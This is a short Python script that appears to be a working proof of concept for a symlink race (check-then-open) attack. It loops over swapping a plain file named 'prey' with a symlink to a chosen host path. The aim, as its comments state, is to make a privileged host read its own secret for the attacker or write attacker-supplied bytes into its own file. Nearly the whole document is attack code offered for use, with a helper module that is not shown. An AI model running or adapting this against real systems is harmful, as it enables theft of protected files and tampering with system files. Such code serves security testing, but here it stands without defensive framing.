# Exchanges a plain file with a link to a file of the host, while the host reads and writes that name.
# Why it matters: a host that looks first and opens later, or opens by path from outside, opens its own file.
# When it works: the host reads its own secret for us, or writes our bytes into its own file.
# Run as: <directory> <path on the host>; the host uses <directory>/prey.
import os
import sys

import swap

directory, outside = sys.argv[1:3]
again = True
while again:
    for name in ("prey", "other"):
        if os.path.lexists(f"{directory}/{name}"):
            os.unlink(f"{directory}/{name}")
    with open(f"{directory}/prey", "w") as file:
        file.write("mine")
    os.symlink(outside, f"{directory}/other")
    again = not swap.until_told(f"{directory}/prey", f"{directory}/other")
